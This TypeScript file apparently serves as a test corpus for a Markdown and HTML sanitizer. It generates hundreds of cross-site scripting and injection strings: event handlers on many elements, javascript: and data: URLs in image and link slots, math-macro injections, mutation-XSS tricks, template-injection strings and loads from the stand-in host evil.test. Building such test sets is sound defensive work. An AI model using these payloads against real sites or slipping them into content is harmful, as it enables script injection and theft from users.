/**
 * Texts that would have a page run or load something, were they taken for more than text. What would run sets
 * `window.attacked`, what would be loaded is at evil.test.
 */

const code = 'window.attacked=1;alert(1)';
const outside = 'https://evil.test';

const elements = [
  'a', 'audio', 'body', 'button', 'details', 'div', 'embed', 'form', 'frameset', 'iframe', 'img', 'input', 'keygen',
  'link', 'marquee', 'math', 'object', 'p', 'portal', 'select', 'style', 'svg', 'table', 'textarea', 'video', 'xmp',
];

const handlers = [
  'onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onpointerenter', 'onanimationstart', 'onbegin',
  'oncontentvisibilityautostatechange', 'onpageshow',
];

/** Every element with every handler: 260. */
const withHandlers = elements.flatMap((element) =>
  handlers.map(
    (handler) => `<${element} src=x href=x open autofocus tabindex=1 style="animation:a 1s" ${handler}="${code}">x</${element}>`,
  ),
);

const schemes = [
  `javascript:${code}`, `JaVaScRiPt:${code}`, ` javascript:${code}`, `\u0001javascript:${code}`, `java\tscript:${code}`,
  `java\nscript:${code}`, `javascript&colon;${code}`, `&#106;avascript:${code}`, `&#x6A;avascript:${code}`,
  `javascript\\:${code}`, `%6aavascript:${code}`, `javascript://evil.test/%0a${code}`, `vbscript:${code}`,
  `livescript:${code}`, `view-source:javascript:${code}`, `blob:${outside}/x`, `data:text/html,<script>${code}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg onload="${code}"/>`,
  `//evil.test/a.png`, `\\\\evil.test\\a.png`, `${outside}/a.png`, `http:evil.test/a.png`, `file:///etc/passwd`,
  `about:blank#${code}`,
];

/** Every address in every place that Markdown and HTML have for one: 225. */
const withAddresses = schemes.flatMap((address, index) => [
  `![picture](${address})`,
  `![picture](<${address}> "title")`,
  `![picture][r${index}]\n\n[r${index}]: ${address}`,
  `[![both](${address})](${address.startsWith('http') ? 'javascript:alert(1)' : address})`,
  `<img src="${address}">`,
  `<img srcset="${address} 1x, ${address} 2x">`,
  `<object data="${address}"></object><embed src="${address}">`,
  `<iframe src="${address}" srcdoc="<script>${code}</script>"></iframe>`,
  `<base href="${address}"><link rel=stylesheet href="${address}"><meta http-equiv=refresh content="0;url=${address}">`,
]);

const formulas = [
  `\\href{javascript:${code}}{x}`, `\\url{javascript:${code}}`, `\\includegraphics{${outside}/x.png}`,
  `\\htmlClass{x" onmouseover="${code}}{x}`, `\\htmlId{x" onload="${code}}{x}`, `\\htmlStyle{background:url(${outside})}{x}`,
  `\\htmlData{x=" onload="${code}}{x}`, `\\def\\x{\\x\\x}\\x`, `\\unicode{<img src=x onerror=${code}>}`,
  `\\text{<img src=x onerror=${code}>}`, `\\style{background-image:url(${outside}/x)}{x}`,
].flatMap((formula) => [`$${formula}$`, `$$\n${formula}\n$$`]);

const sleights = [
  `<script>${code}</script>`, `<script src=${outside}/x.js></script>`, `<ScRiPt\t>${code}</sCrIpT >`, `<script\u000b>${code}</script>`,
  `<<script>script>${code}</script>`, `<svg><script>${code}</script></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload='${code}'/>#x">`,
  `<svg><animate onbegin="${code}" attributeName=x></svg>`, `<svg><a xlink:href="javascript:${code}"><text>x</text></a></svg>`,
  `<svg><foreignObject><iframe src="javascript:${code}"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;"></table></math>`,
  `<math href="javascript:${code}">x</math>`, `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript>`,
  `<style>@import url(${outside}/x.css);*{background:url(${outside}/x.png)}</style>`, `<p style="background:url(${outside}/x)">x</p>`,
  `<template><script>${code}</script></template>`, `<form action="javascript:${code}"><button>x</button></form>`,
  `<isindex action="javascript:${code}">`, `<video><source onerror="${code}"></video>`, `<textarea></textarea><img src=x onerror=${code}>`,
  `<!--><img src=x onerror=${code}>-->`, `<![CDATA[<img src=x onerror=${code}>]]>`, `<?xml-stylesheet href="javascript:${code}"?>`,
  `&lt;img src=x onerror=${code}&gt;`, `\\<img src=x onerror=${code}\\>`, `<img src="x\`onerror=${code}\`">`,
  '```html"><img src=x onerror=' + code + '>\nx\n```', '```<svg/onload=' + code + '>\nx\n```', '`<img src=x onerror=' + code + '>`',
  `[a](x "title\\" onmouseover=${code}")`, `[x]: javascript:${code}\n\n[x]`, `<javascript:${code}>`, `<${outside}/"onmouseover=${code}>`,
  `[^1]\n\n[^1]: <img src=x onerror=${code}>`, `| <img src=x onerror=${code}> | a |\n|---|---|\n| <svg onload=${code}> | [x](javascript:${code}) |`,
  `# <img src=x onerror=${code}>`, `- [ ] <img src=x onerror=${code}>`, `> <img src=x onerror=${code}>`, `**<img src=x onerror=${code}>**`,
  `[1]<img src=x onerror=${code}>`, `{{constructor.constructor('${code}')()}}`, `\${${code}}`, `<%= ${code} %>`, `#{${code}}`,
  `\u202e<img src=x onerror=${code}>`, `\ufeff<script>${code}</script>`, `＜img src=x onerror=${code}＞`,
  `"><img src=x onerror=${code}>`, `'><img src=x onerror=${code}>`, `</textarea><img src=x onerror=${code}>`, `</title><script>${code}</script>`,
  `</script><script>${code}</script>`, `<a href="#" ping="${outside}">x</a>`, `<img lowsrc=${outside}/x dynsrc=${outside}/x>`,
  `<bgsound src=${outside}/x><applet code=${outside}/x>`, `<dialog open onclose=${code}><form method=dialog><button autofocus>`,
];

export const attacks: readonly string[] = [...new Set([...withHandlers, ...withAddresses, ...formulas, ...sleights])];
